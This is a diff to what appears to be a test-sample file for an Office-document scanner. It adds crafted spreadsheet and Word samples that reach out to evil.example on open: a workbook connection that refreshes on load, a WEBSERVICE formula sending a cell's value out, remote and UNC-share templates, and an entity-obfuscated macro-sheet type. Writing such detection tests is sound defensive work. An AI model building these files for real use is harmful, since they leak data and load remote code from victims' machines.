@@ -40,6 +40,13 @@ def _related(kind: str, target: str, mode: str = "External") -> bytes:
     )
 
 
+def _connected(address: str, on_load: str) -> bytes:
+    connection = f'<connection id="1" type="4" refreshOnLoad="{on_load}"><webPr xml="1" url="{address}"/></connection>'
+    return office.zipped(
+        {"[Content_Types].xml": "<Types/>", "xl/connections.xml": f"<connections>{connection}</connections>"}
+    )
+
+
 def _document(inner: str) -> bytes:
     return office.zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": office.body(inner)})
 
@@ -197,6 +204,11 @@ SAMPLES: dict[str, Sample] = {
     "a picture from elsewhere, in a field": Sample("a.docx", _document(office.field('INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET'))),
     "a formula that asks the web": Sample(
         "a.xlsx", office.zipped({"xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></worksheet>'}), ("remote",)
+    ),
+    "a page that a workbook reads when it is opened": Sample("a.xlsx", _connected("https://evil.example/a", "1"), ("remote",)),
+    "a page that a workbook reads when it is asked to": Sample("a.xlsx", _connected("https://example.org/a", "0")),
+    "a macro sheet in references": Sample(
+        "a.xlsx", office.zipped({"[Content_Types].xml": '<Types><Override PartName="/a.xml" ContentType="application/vnd.ms-excel.mac&#114;o&#x73;heet+xml"/></Types>'}), ("xlm",)
     ),
     "a template from elsewhere": Sample("a.docx", _related("attachedTemplate", "https://evil.example/t.dotm"), ("remote",)),
     "a template on a share": Sample("a.docx", _related("attachedTemplate", "file:///\\\\evil.example\\s\\t.dotm"), ("remote",)),
